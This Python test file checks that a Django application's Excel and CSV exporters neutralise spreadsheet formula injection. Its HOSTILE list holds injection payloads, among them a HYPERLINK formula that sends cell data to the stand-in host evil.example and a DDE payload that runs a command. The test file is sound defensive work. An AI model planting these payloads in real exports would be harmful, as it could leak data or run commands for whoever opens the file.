"""No spreadsheet Kaohe writes turns what someone typed into a formula (security.md 29).

Hostile text goes into every free-text field of the database; then every exporter that
writes Excel is run for every role it offers something to, and the directory template, the
auditor's CSV and the CSV and Excel of ``kaohe evaluate`` are made too. No cell may be a
formula, and the hostile text must be there, as text.
"""

import csv
import io
import zipfile

import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kaohe.audit.services import log_action
from kaohe.directory import importing
from kaohe.directory.models import Unit
from kaohe.documents import services
from kaohe.documents.base import REGISTRY
from kaohe.grading import services as grading
from kaohe.grading.models import ResultSet
from kaohe.outcomes import services as outcomes
from kaohe.outcomes.models import RectificationReport
from kaohe.submissions import offline
from kaohe.submissions import services as submissions
from kaohe.submissions.models import SelfReportAnswer
from tests.submissions.conftest import matrix_provincial_report, matrix_self_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Text columns that hold identifiers, codes or machine values rather than what a person types;
# the import and the forms check those against fixed formats.
NOT_FREE_TEXT = {
    "code", "number", "unit_code", "previous", "grade", "identifier", "fmt", "object_key",
    "username", "password", "email", "session_key", "sha256", "seal", "storage_name",
    "content_type", "original_name", "url",
}
# Rows that are not edited in place: the append-only log, its sessions, the exports made.
NOT_SCRUBBED = {"audit.AuditEntry", "accounts.UserSession", "documents.Export"}


def _free_text_fields(model):
    return [f for f in model._meta.concrete_fields
            if isinstance(f, (models.CharField, models.TextField))
            and not f.choices and not f.primary_key and f.name not in NOT_FREE_TEXT]


def scrub():
    """Every free-text field of every row becomes hostile text, unique per row."""
    turn = 0
    for model in apps.get_models():
        label = model._meta.label
        if not model.__module__.startswith("kaohe.") or label in NOT_SCRUBBED:
            continue
        fields = _free_text_fields(model)
        if not fields:
            continue
        for pk in model.objects.values_list("pk", flat=True):
            values = {}
            for field in fields:
                for shift in range(len(HOSTILE)):
                    text = f"{HOSTILE[(turn + shift) % len(HOSTILE)]} {pk}"
                    if field.max_length is None or len(text) <= field.max_length:
                        break
                values[field.name] = text
                turn += 1
            model.objects.filter(pk=pk).update(**values)


@pytest.fixture
def hostile_round(request, world, personas):
    """A released round whose names, reports, feedback, rectification, decisions and
    comments are all hostile text."""
    scrub()  # before the result sets take their snapshot of the units' names
    round_ = world["round"]
    request.getfixturevalue("approved")
    wg = personas["working_group"]  # a later draft, with a decision, before the release
    draft = grading.result_set_compute(round=round_, actor=wg)
    grading.decision_record(result_set=draft, unit_code=world["unit_a"].code,
                            grade="average", reason="x", actor=wg)
    released = request.getfixturevalue("released")
    for unit in (world["unit_a"], world["unit_b"]):
        report = matrix_self_report(world, unit, submitted=False)
        SelfReportAnswer.objects.bulk_create(
            SelfReportAnswer(report=report, indicator=slot.indicator, county=slot.county, text="x")
            for slot in submissions.self_report_slots(report))
        matrix_provincial_report(world, unit, submitted=False)
        report = outcomes.rectification_for(round=round_, unit=unit)
        # Submitted, as stored: the tracker shows a draft's items to nobody but its unit.
        RectificationReport.objects.filter(pk=report.pk).update(submitted_at=timezone.now())
    scrub()
    # As if the leading group had written its hostile comments before approving.
    for result_set in ResultSet.objects.exclude(seal=""):
        ResultSet.objects.filter(pk=result_set.pk).update(seal=result_set.content_hash())
    return released


def inert_workbook(data: bytes) -> list[str]:
    """The text cells of a workbook, after checking that no cell is a formula and that text
    a spreadsheet would take for one is marked as text."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            xml = archive.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, name
    texts = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    if cell.value.startswith(TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def hostile_in(texts) -> set[str]:
    return {payload for payload in HOSTILE for text in texts if text.startswith(payload)}


def test_no_exporter_writes_a_formula_from_anything_a_user_typed(hostile_round, personas, world):
    round_ = world["round"]
    excel = {identifier for identifier, cls in REGISTRY.items() if "xlsx" in cls.formats}
    walked: dict[str, set[str]] = {}
    for persona, user in sorted(personas.items()):
        for identifier in sorted(excel):
            exporter = REGISTRY[identifier]()
            for obj in exporter.objects_for(user, round_):
                _, rendered = services.export_now(user, exporter, obj, "xlsx", round_=round_)
                found = hostile_in(inert_workbook(rendered.data))
                assert found, (persona, identifier)  # else the walk proves nothing
                walked.setdefault(identifier, set()).update(found)
    assert set(walked) == excel  # every Excel exporter was made by someone
    assert set().union(*walked.values()) == set(HOSTILE)


@pytest.mark.parametrize(("identifier", "sheet", "columns"), [
    ("rectification_tracker", "整改情况",
     ["单位名称", "类别", "问题或建议", "整改措施", "佐证材料", "审核意见"]),
    ("progress_table", "考核进度", ["单位名称", "类别", "牵头部门"]),
])
def test_the_issue_s_columns_hold_the_hostile_text_as_text(hostile_round, personas, world,
                                                          identifier, sheet, columns):
    user, round_ = personas["office"], world["round"]
    exporter = REGISTRY[identifier]()
    _, rendered = services.export_now(user, exporter, exporter.get_object(user, round_, "2017"),
                                      "xlsx", round_=round_)
    inert_workbook(rendered.data)
    rows = list(load_workbook(io.BytesIO(rendered.data))[sheet].iter_rows(values_only=True))
    for column in columns:
        index = rows[0].index(column)
        values = [row[index] for row in rows[1:]]
        assert values and all(str(v).startswith(tuple(HOSTILE)) for v in values), column


def test_the_directory_import_template_keeps_category_names_as_text(world):
    scrub()
    assert hostile_in(inert_workbook(importing.import_template()))


def _csv_fields(text: str) -> list[str]:
    return [field for row in csv.reader(io.StringIO(text)) for field in row]


def assert_inert_csv(text: str, expected: list[str]):
    """No field starts with what a spreadsheet reads as a formula; each expected text is
    there behind the quote that neutralises it."""
    fields = _csv_fields(text)
    for field in fields:
        assert not field.startswith(TRIGGERS), field
    for payload in expected:
        assert any(field.startswith("'" + payload) for field in fields), payload


def test_the_audit_export_neutralises_names_and_targets(personas, world, login):
    Unit.objects.filter(pk=world["unit_a"].pk).update(name=HOSTILE[0])
    world["unit_a"].refresh_from_db()
    for payload in HOSTILE[1:]:
        log_action("auth.login_failed", actor_repr=payload, success=False)
    log_action("review.grade.changed", actor=personas["office"], target=world["unit_a"])
    response = login(personas["auditor"]).get(reverse("audit:export"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert_inert_csv(text, HOSTILE)


def _evaluate_input(tmp_path):
    from tests.grading.test_evaluate_cli import ROWS, write_csv

    rows = [list(row) for row in ROWS]
    for number, (row, payload) in enumerate(zip(rows, HOSTILE, strict=False)):
        row[0] = f"{payload}单位{number}"
        row[1] = payload + "类"
    return write_csv(tmp_path / "round.csv", rows)


# The reader strips the spaces around a name, leading tabs and returns included.
READ_BACK = [payload.strip() for payload in HOSTILE]


def test_evaluate_csv_neutralises_unit_and_category_names(tmp_path):
    out = tmp_path / "out.csv"
    call_command("evaluate", str(_evaluate_input(tmp_path)), "--output", str(out),
                 stdout=io.StringIO(), stderr=io.StringIO())
    text = out.read_text(encoding="utf-8-sig")
    assert_inert_csv(text, READ_BACK)
    stdout = io.StringIO()
    call_command("evaluate", str(_evaluate_input(tmp_path)), "--format", "csv", stdout=stdout)
    assert_inert_csv(stdout.getvalue(), READ_BACK)


def test_evaluate_xlsx_keeps_unit_and_category_names_as_text(tmp_path):
    out = tmp_path / "out.xlsx"
    call_command("evaluate", str(_evaluate_input(tmp_path)), "--output", str(out),
                 stdout=io.StringIO(), stderr=io.StringIO())
    texts = inert_workbook(out.read_bytes())
    assert {p for p in READ_BACK for text in texts if text.startswith(p)} == set(READ_BACK)
    # Scores and ranks stay numbers.
    sheet = load_workbook(out)["结果"]
    assert all(isinstance(row[2], (int, float)) and isinstance(row[3], int)
               for row in sheet.iter_rows(min_row=2, values_only=True))


def test_the_offline_workbook_brings_hostile_text_back_unchanged(world, personas, settings):
    """The neutralised cell holds the exact text, so a download and upload changes nothing
    (an apostrophe in the value would come back, and grow on every round trip)."""
    settings.KAOHE_TODAY = "2017-12-15"  # the self-report step is open
    unit = personas["unit"]
    report = submissions.self_report_for(round=world["round"], unit=world["unit_a"])
    slots = submissions.self_report_slots(report)
    typed = [payload for payload in HOSTILE if payload == payload.strip()]
    answers = {slot.key: payload for slot, payload in zip(slots, typed, strict=False)}
    submissions.self_report_save(report=report, actor=unit, revision=report.revision,
                                 summary=HOSTILE[1], answers=answers)
    report.refresh_from_db()
    before = (report.summary, sorted(report.answers.values_list("pk", "text")))
    data = offline.self_report_workbook(report)
    assert hostile_in(inert_workbook(data)) == set(typed)
    offline.self_report_import(report=report, data=data, actor=unit, revision=report.revision)
    report.refresh_from_db()
    assert (report.summary, sorted(report.answers.values_list("pk", "text"))) == before
